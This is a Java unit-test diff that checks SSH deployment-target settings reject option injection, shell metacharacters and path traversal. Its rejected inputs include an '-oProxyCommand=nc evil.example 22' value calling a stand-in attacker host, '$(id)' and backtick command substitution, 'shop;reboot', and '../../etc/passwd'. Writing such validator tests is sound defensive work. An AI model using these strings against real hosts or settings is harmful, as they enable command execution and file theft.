@@ -44,6 +44,39 @@ class DeploymentTargetTest {
     }
 
     @Test
+    void hostsUsersAndPathsTakeNoOptionsAndNoShellSyntax() {
+        Map<String, String> refused = Map.of("host", "-oProxyCommand=nc evil.example 22", "user", "-oProxyCommand=sh",
+                "directory", "/srv/$(id)", "composeFile", "../../etc/passwd");
+        Violations violations = new Violations();
+        assertEquals(null, DeploymentTarget.of("ssh-host", refused, violations));
+        assertEquals(List.of("settings.host", "settings.user", "settings.directory", "settings.composeFile"),
+                fields(violations));
+
+        for (Map.Entry<String, String> bad : List.of(Map.entry("host", "shop;reboot"), Map.entry("host", "shop example"),
+                Map.entry("host", "`id`.example.com"), Map.entry("user", "deploy user"), Map.entry("user", "root'"),
+                Map.entry("directory", "srv/shop"), Map.entry("directory", "/srv/../etc"), Map.entry("directory", "/srv/shop|x"),
+                Map.entry("composeFile", "/etc/passwd"), Map.entry("composeFile", "-oProxyCommand=x"))) {
+            Map<String, String> settings = new java.util.HashMap<>(Map.of("host", "shop-1.example.com", "user", "deploy",
+                    "directory", "/srv/shop"));
+            settings.put(bad.getKey(), bad.getValue());
+            Violations refusedOne = new Violations();
+            DeploymentTarget.of("ssh-host", settings, refusedOne);
+            assertEquals(List.of("settings." + bad.getKey()), fields(refusedOne), bad.toString());
+        }
+
+        for (String host : List.of("127.0.0.1", "shop-1.example.com", "[2001:db8::5]", "localhost")) {
+            Violations fine = new Violations();
+            DeploymentTarget.of("ssh-host", Map.of("host", host, "user", "deploy_bot.1", "directory", "/srv/shop-2026",
+                    "composeFile", "deploy/docker-compose.prod.yml"), fine);
+            assertTrue(fine.isEmpty(), host + ": " + (fine.isEmpty() ? "" : fields(fine)));
+        }
+    }
+
+    private static List<String> fields(Violations violations) {
+        return assertThrows(InvalidInputException.class, violations::throwIfAny).errors().stream().map(FieldError::field).toList();
+    }
+
+    @Test
     void anEnvironmentGoesBackToTheSameInput() {
         EnvironmentInput input = new EnvironmentInput("staging", "Staging", "https://staging.example.com",
                 new EnvironmentInput.TargetInput("aws-ssm", Map.of("region", "eu-west-1", "instanceId", "i-0abc", "directory", "/srv/app")),
